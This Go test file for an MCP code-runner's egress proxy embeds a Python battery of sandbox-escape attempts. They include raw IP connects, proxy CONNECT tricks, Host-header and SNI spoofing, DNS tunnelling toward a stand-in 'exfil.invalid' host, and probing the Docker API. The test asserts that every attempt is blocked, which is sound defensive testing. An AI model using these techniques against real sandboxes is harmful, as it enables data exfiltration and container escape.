//go:build !fast

package egress_test

import (
	"context"
	"encoding/json"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/mcp-code-runner/mcp-code-runner/internal/config"
	"github.com/mcp-code-runner/mcp-code-runner/internal/egress/gate"
	"github.com/mcp-code-runner/mcp-code-runner/internal/engine"
	"github.com/mcp-code-runner/mcp-code-runner/internal/languages"
	"github.com/mcp-code-runner/mcp-code-runner/internal/testutil"
	"github.com/mcp-code-runner/mcp-code-runner/internal/testutil/testbackend"
)

// recordingResolver answers nothing and records every name the proxies
// asked it: the battery's attempts must all be denied before any lookup,
// and no real DNS query is ever made.
type recordingResolver struct {
	mu    sync.Mutex
	asked []string
}

func (r *recordingResolver) LookupIPAddr(_ context.Context, host string) ([]net.IPAddr, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.asked = append(r.asked, host)
	return nil, &net.DNSError{Err: "no such host (test resolver)", Name: host, IsNotFound: true}
}

// tripwire counts connections to a listener on the host's loopback that
// a sandbox must never reach.
type tripwire struct {
	ln   net.Listener
	hits atomic.Int32
}

func newTripwire(t *testing.T, network, addr string) *tripwire {
	ln, err := net.Listen(network, addr)
	if err != nil {
		return nil // e.g. no IPv6 loopback on this host
	}
	tw := &tripwire{ln: ln}
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			tw.hits.Add(1)
			c.Close()
		}
	}()
	t.Cleanup(func() { ln.Close() })
	return tw
}

func (tw *tripwire) port() string {
	if tw == nil {
		return "0"
	}
	_, p, _ := net.SplitHostPort(tw.ln.Addr().String())
	return p
}

// hostileEgress is run with network "packages": each attempt prints what
// happened. Every address it aims at is the sandbox's own loopback, the
// test's own listeners on the host's loopback (through the proxy), or a
// name under .invalid that the proxy must refuse before resolving it.
const hostileEgress = `
import json, os, socket, ssl
P, P6, Q, M = (int(os.environ[k]) for k in ("P", "P6", "Q", "M"))
out = {}
def attempt(name, fn):
    try:
        out[name] = "REACHED " + str(fn())
    except Exception as e:
        out[name] = "blocked " + type(e).__name__ + ": " + str(e)[:160]

def via_proxy(raw, addr=("127.0.0.1", 3128), family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(15)
    s.connect(addr)
    s.sendall(raw)
    data = b""
    while b"\r\n" not in data:
        b = s.recv(4096)
        if not b:
            break
        data += b
    s.close()
    line = data.split(b"\r\n")[0].decode()
    if " 200 " in line:
        return line
    raise PermissionError(line or "closed")

out["interfaces"] = sorted(os.listdir("/sys/class/net"))
out["routes"] = open("/proc/net/route").read().strip().splitlines()[1:]
# raw IP: straight to the test's listeners (the sandbox's own loopback)
attempt("raw_ip_tcp", lambda: socket.create_connection(("127.0.0.1", P), timeout=3))
attempt("raw_ipv6_tcp", lambda: socket.create_connection(("::1", P6), timeout=3))
# the proxy to an IP address, v4 and v6
attempt("connect_ip", lambda: via_proxy(b"CONNECT 127.0.0.1:%d HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" % P))
attempt("connect_ipv6", lambda: via_proxy(b"CONNECT [::1]:%d HTTP/1.1\r\nHost: [::1]\r\n\r\n" % P6))
attempt("get_ip", lambda: via_proxy(b"GET http://127.0.0.1:%d/ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" % P))
# another domain through the proxy
attempt("other_domain_connect", lambda: via_proxy(b"CONNECT exfil.invalid:443 HTTP/1.1\r\nHost: exfil.invalid\r\n\r\n"))
attempt("other_domain_get", lambda: via_proxy(b"GET http://exfil.invalid/ HTTP/1.1\r\nHost: exfil.invalid\r\n\r\n"))
attempt("allowed_name_other_host_header", lambda: via_proxy(b"GET http://exfil.invalid/ HTTP/1.1\r\nHost: pypi.org\r\n\r\n"))
# CONNECT to a port that is not 443
attempt("connect_port_22", lambda: via_proxy(b"CONNECT pypi.org:22 HTTP/1.1\r\nHost: pypi.org\r\n\r\n"))
attempt("connect_port_80", lambda: via_proxy(b"CONNECT pypi.org:80 HTTP/1.1\r\nHost: pypi.org\r\n\r\n"))
# DNS tunnelling: data in names the proxy would have to resolve, and a
# query to a resolver on loopback
attempt("dns_name_tunnel", lambda: via_proxy(b"CONNECT 736563726574.pypi.org.exfil.invalid:443 HTTP/1.1\r\nHost: x\r\n\r\n"))
def udp_dns():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x05exfil\x07invalid\x00\x00\x01\x00\x01", ("127.0.0.1", Q))
    return s.recvfrom(512)
attempt("dns_udp", udp_dns)
# a TLS server name that is not the CONNECT host
def sni_mismatch():
    s = socket.create_connection(("127.0.0.1", 3128), timeout=15)
    s.sendall(b"CONNECT pypi.org:443 HTTP/1.1\r\nHost: pypi.org\r\n\r\n")
    line = s.recv(4096).split(b"\r\n")[0].decode()
    if " 200 " not in line:
        raise PermissionError(line)
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    t = ctx.wrap_socket(s, server_hostname="exfil.invalid")
    return t.version()
attempt("sni_mismatch", sni_mismatch)
# the proxy's own ports: a metrics listener on the host, the relay as an origin
attempt("metrics_via_proxy", lambda: via_proxy(b"GET http://localhost:%d/metrics HTTP/1.1\r\nHost: localhost\r\n\r\n" % M))
attempt("metrics_connect", lambda: via_proxy(b"CONNECT localhost:%d HTTP/1.1\r\nHost: localhost\r\n\r\n" % M))
attempt("metrics_direct", lambda: socket.create_connection(("127.0.0.1", M), timeout=3))
attempt("relay_as_origin", lambda: via_proxy(b"GET /metrics HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n\r\n"))
# the Docker API: its socket, its TCP port through the proxy, the proxy's socket as if it were Docker's
out["docker_socket"] = [p for p in ("/var/run/docker.sock", "/run/docker.sock") if os.path.exists(p)]
attempt("docker_tcp", lambda: via_proxy(b"GET http://127.0.0.1:2375/version HTTP/1.1\r\nHost: 127.0.0.1:2375\r\n\r\n"))
attempt("docker_connect", lambda: via_proxy(b"CONNECT docker:2375 HTTP/1.1\r\nHost: docker\r\n\r\n"))
def egress_socket_as_docker():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(15)
    s.connect("/run/mcp-code-runner-egress/proxy.sock")
    s.sendall(b"GET /containers/json HTTP/1.1\r\nHost: docker\r\n\r\n")
    line = s.recv(4096).split(b"\r\n")[0].decode()
    if " 200 " in line:
        return line
    raise PermissionError(line)
attempt("egress_socket_as_docker", egress_socket_as_docker)
print(json.dumps(out))
`

// The hostile egress battery: with network "packages", a program tries
// every route out that a hostile program would, and every one fails.
func TestWithThePackagesTierAHostileProgramReachesNothingElse(t *testing.T) {
	cfg := config.Default()
	cfg.Network.MaxTier = config.TierPackages
	cfg.Pool.Sizes = nil
	testutil.Unhurried(&cfg)
	resolver := &recordingResolver{}
	e, _ := testbackend.Engine(t, &cfg, engine.WithGate(gate.New(cfg, languages.Builtin(), gate.Options{Resolver: resolver})))
	requireImages(t, e, "python")

	tcp := newTripwire(t, "tcp", "127.0.0.1:0")
	tcp6 := newTripwire(t, "tcp", "[::1]:0")
	metrics := newTripwire(t, "tcp", "127.0.0.1:0")
	udp, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { udp.Close() })
	var udpHits atomic.Int32
	go func() {
		buf := make([]byte, 512)
		for {
			if _, _, err := udp.ReadFrom(buf); err != nil {
				return
			}
			udpHits.Add(1)
		}
	}()
	_, q, _ := net.SplitHostPort(udp.LocalAddr().String())

	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	res, err := e.Run(ctx, engine.Request{Language: "python", Network: "packages", Code: hostileEgress, TimeoutSeconds: 60,
		Env: map[string]string{"P": tcp.port(), "P6": tcp6.port(), "Q": q, "M": metrics.port()}}, engine.RunOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != engine.StatusOK {
		t.Fatalf("status %s: %s %s", res.Status, res.Stdout, res.Stderr)
	}
	var out map[string]any
	if err := json.Unmarshal([]byte(res.Stdout), &out); err != nil {
		t.Fatalf("output %q: %v", res.Stdout, err)
	}
	t.Logf("observed: %s", res.Stdout)
	if got, _ := json.Marshal(out["interfaces"]); string(got) != `["lo"]` {
		t.Errorf("interfaces %s, want only lo", got)
	}
	if got, _ := json.Marshal(out["routes"]); string(got) != `[]` {
		t.Errorf("routes %s, want none", got)
	}
	if got, _ := json.Marshal(out["docker_socket"]); string(got) != `[]` {
		t.Errorf("a Docker socket is visible: %s", got)
	}
	for name, v := range out {
		s, ok := v.(string)
		if !ok {
			continue
		}
		if !strings.HasPrefix(s, "blocked") {
			t.Errorf("%s: %s", name, s)
		}
	}
	for name, tw := range map[string]*tripwire{"tcp": tcp, "tcp6": tcp6, "metrics": metrics} {
		if tw != nil && tw.hits.Load() != 0 {
			t.Errorf("the %s listener on the host was reached %d times", name, tw.hits.Load())
		}
	}
	if udpHits.Load() != 0 {
		t.Errorf("the UDP listener on the host got %d packets", udpHits.Load())
	}
	resolver.mu.Lock()
	asked := append([]string(nil), resolver.asked...)
	resolver.mu.Unlock()
	if len(asked) != 0 {
		t.Errorf("the proxy resolved %v: every attempt must be refused before any lookup", asked)
	}
	if res.Network == nil || res.Network.Tier != "packages" {
		t.Fatalf("network report %+v", res.Network)
	}
	denied := strings.Join(res.Network.Denied, "\n")
	for _, want := range []string{"127.0.0.1:" + tcp.port(), "exfil.invalid:443", "pypi.org:22", "pypi.org:443", "localhost:" + metrics.port(), "127.0.0.1:2375", "docker:2375"} {
		if !strings.Contains(denied, want) {
			t.Errorf("network.denied lacks %s:\n%s", want, denied)
		}
	}
	if len(res.Network.Allowed) != 0 {
		t.Errorf("allowed %v", res.Network.Allowed)
	}
	testutil.NoLeftovers(t, testutil.RequireDocker(t))
}
